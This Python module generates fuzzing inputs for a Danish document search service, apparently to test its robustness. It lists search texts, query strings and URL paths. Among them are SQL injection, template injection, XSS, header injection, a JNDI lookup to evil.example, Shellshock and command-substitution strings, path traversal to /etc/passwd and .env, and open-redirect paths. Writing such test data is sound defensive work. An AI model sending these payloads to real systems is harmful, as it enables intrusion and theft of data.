"""Queries and addresses that people, scanners and programs send, made from lists."""

from __future__ import annotations

from itertools import permutations, product
from urllib.parse import quote

from app.domain.facets import FACETS


def _words(*lines: str) -> list[str]:
    return " ".join(lines).split()


_OPERATORS = ["AND", "OR", "NOT", "ANDNOT", "ANDMAYBE", "REQUIRE", "TO"]
_FIELDS = ["kommune", "title", "titel", "body", "facets", "_stored"]
_BOOSTS = ["^0", "^-1", "^99999999999", "^1e309", "^nan", "~", "~2", "~99999", "*", ":*", ":[a TO b]", ":>1"]
_MARKS = list("'\"“„«»″`\\|&!^~*?:;%#+=@$")
_BRACKETS = ["()", "[]", "{}", "<>"]

OPERATORS = [
    *_OPERATORS,
    *(f"a {one} b {other} c" for one, other in permutations(_OPERATORS, 2)),
    *(" ".join([f"a {operator}"] * count) for operator, count in product(_OPERATORS, (18, 200))),
    *(f"{operator} " * 50 for operator in _OPERATORS),
    "NOT NOT a",
    "a -b -c -d",
    "- - - -",
    "-" * 5_000,
    "--a ---b",
    "-a",
    '-"a b"',
    '-"',
]
FIELDS = [f"{field}{boost}" for field, boost in product(_FIELDS, _BOOSTS)] + [
    f"{field}:{text}^0" for field, text in product(_FIELDS, ("x", '"a b"', "*", ""))
]
WILDCARDS = ["?" * 200, "*?" * 100, *_words("* ? ** *a* a* *a a*b*c*d*e* a?b /.*/ /(a+)+$/ (a|a)*b .*")]
QUOTES = [
    *_MARKS,
    *(mark * 199 for mark in _MARKS),
    *(f"a {mark} b{mark}" for mark in _MARKS),
    '"',
    '"a',
    'a"',
    '"a b" c"',
    '""""',
    '" " " "',
]
BRACKETS = [
    *(pair[0] * 1_000 for pair in _BRACKETS),
    *(pair[1] * 1_000 for pair in _BRACKETS),
    *(pair[0] * 60 + "a" + pair[1] * 60 for pair in _BRACKETS),
    *("".join(pair) * 500 for pair in _BRACKETS),
    "((a OR b) AND (c",
    "[a TO",
    "{z TO a}",
    "[* TO *]",
]
LETTERS = [
    *(chr(code) for code in range(0x20)),
    *(chr(code) for code in range(0x7F, 0xA1)),
    "a\x00b",
    "\ufeffvikar",
    "vi\u00adkar",
    "vi\u200bkar",
    "\u202evikar",
    "\u2066vikar\u2069",
    "א ב ג",
    "مرحبا بالعالم",
    "你好 世界",
    "ﬁnde ﬂere",
    "e" + "\u0301" * 500,
    "\u0301",
    "Z\u0351\u036b\u0343A\u0344LGO",
    "🙂" * 100,
    "👩\u200d👩\u200d👧",
    "٣٤٥",
    "१२३",
    "½¾²³",
    "ⅷ ⑨",
    "𝟙𝟚𝟛",
    "İıſßẞ",
    "Ǆǅǆ",
    "\ufdfa" * 60,
    "\uffff",
    "\U0010ffff",
    "\ue000",
    "æ" * 200,
    "Å" * 60,
    "A\u030a" * 60,
    "LEDELSESSPÆND",
]
LENGTHS = [
    "a" * 5_000,
    "æ" * 5_000,
    "ledelse" * 700,
    "a " * 5_000,
    "frafald " * 5_000,
    " ".join(f"ord{number}" for number in range(5_000)),
    " ".join(["-a"] * 5_000),
    '"' + "a " * 5_000 + '"',
    '"a" ' * 2_000,
    "a-" * 2_000,
    "9" * 5_000,
    "social- og sundheds- og ældre- og " * 50,
    " " * 5_000,
    "\n" * 5_000,
]
INJECTIONS = [
    "' OR '1'='1",
    "'; DROP TABLE documentrow; --",
    '" UNION SELECT * FROM documentrow --',
    "1; ATTACH DATABASE 'x' AS y",
    "%' AND 1=0 --",
    "_%_%",
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "<script>alert(1)</script>",
    "a\r\nSet-Cookie: a=b",
    "a\nLocation: //evil.example",
    "%0d%0aX-Evil: 1",
    "${jndi:ldap://evil.example/a}",
    "() { :; }; echo",
    "`id`",
    "$(id)",
    "| cat /etc/passwd",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "http://169.254.169.254/",
    "%s%s%s%n%n",
    "%",
    "%%",
    "%zz",
    "\\x00\\u0000",
    "__proto__",
    "null",
    "undefined",
    "NaN",
    "true",
]
TEXTS = [*OPERATORS, *FIELDS, *WILDCARDS, *QUOTES, *BRACKETS, *LETTERS, *LENGTHS, *INJECTIONS]
"""Search texts."""

_NUMBERS = ["9" * 400, "", " 1 ", "1\x00", *_words("0 -1 +1 1.5 1e9 0x10 9999 10000 ٣ ½ ² １ NaN true")]
_VALUES = ["a" * 5_000, "\x00", "\u202e", "", " ", *_words("x * %00 ../horsens HORSENS horsens' <b> ikke-angivet")]
QUERY_STRINGS = [
    *(f"{name}={quote(number)}" for name, number in product(("side", "antal"), _NUMBERS)),
    *(f"{facet.name}={quote(value)}" for facet, value in product(FACETS, _VALUES)),
    *(f"sortering={quote(value)}" for value in _VALUES),
    "&".join(f"kommune=k{number}" for number in range(3_000)),
    "&".join(f"felt{number}=1" for number in range(5_000)),
    "&".join(f"{facet.name}=v{number}" for facet, number in product(FACETS, range(100))),
    "q=a&" * 2_000,
    "&" * 5_000,
    "=" * 5_000,
    "q",
    "q=",
    "=q",
    "&q==",
    "q[]=a",
    "q[a][b]=c",
    "q=a;kommune=b",
    "?q=a",
    "q=a%",
    "q=%",
    "q=%F",
    "q=%GG",
    "q=%u0061",
    "q=%FF%FE",
    "q=%C3%28",
    "q=%C0%AF",
    "q=%ED%A0%80",
    "q=%ED%B0%80%ED%A0%80",
    "q=%F4%90%80%80",
    "q=%E2%82",
    "q=%00",
    "q=%2500",
    "q=%25252e",
    "q=%0d%0aSet-Cookie:%20a=b",
    "q=a%20b%09c%0Bd%A0e",
    "%00=%00",
    "%71=vikar",
    "Q=vikar",
    "kommune=%ED%A0%80",
    "callback=alert(1)",
    "q=" + "%" * 5_000,
    "q=" + "%C3" * 3_000,
]
"""What stands after the question mark."""

_SEGMENTS = [
    "a" * 5_000,
    "%41" * 3_000,
    "%2e%2e%2f" * 500,
    *_words(".. . ... %2e%2e ..%2f %2f %5c ..%5c %252e%252e%252f %00 %0a %0d%0a %09 %20 %7f %ff", "%c0%ae %ed%a0%80"),
    *_words("%u002e % %zz %25 %3f %23 %3Cscript%3E %22 ' {{7*7}} ${7} ;a=b * ~ %e2%80%ae", "%f0%9f%99%82"),
    *_words("@evil.example evil.example http:%2f%2fevil.example"),
    *(f"viborg-mindre-ledelsesspaend{end}" for end in ("%00", "%0a", "%3fx", "%23x", "%20", ".md", ".", ";x")),
    "viborg%0a-mindre-ledelsesspaend",
    "VIBORG-MINDRE-LEDELSESSPAEND",
]
_FOLDERS = ["/", "/cases/", "/kommuner/", "/static/", "/api/v1/dokumenter/case/"]
PATHS = [
    *(f"{folder}{segment}" for folder, segment in product(_FOLDERS, _SEGMENTS)),
    "//",
    "///",
    "//evil.example",
    "//evil.example/..",
    "/\\evil.example",
    "/%5cevil.example/",
    "/%2fevil.example",
    "/%2f%2fevil.example/",
    "/" * 5_000,
    "/a" * 5_000,
    "/../../../../etc/passwd",
    "/static/../app/settings.py",
    "/static/..%2f..%2fpyproject.toml",
    "/static//etc/passwd",
    "/static/%2fetc%2fpasswd",
    "/.git/config",
    "/.env",
    "/wp-login.php",
    "/admin",
    "/server-status",
    "/index.html",
    "/api/v1/dokumenter/%00/%00",
    "/api/v1/dokumenter/case",
    "/api/v1/dokumenter//",
    "/api/v1/dokumenter/case/a/b",
    "/api/v1/soeg/",
    "/soeg/soeg",
    "/healthz/x",
    "*",
    "http://evil.example/",
    "evil.example:443",
]
"""What stands after the host. The last three are targets that only proxies should be asked for."""
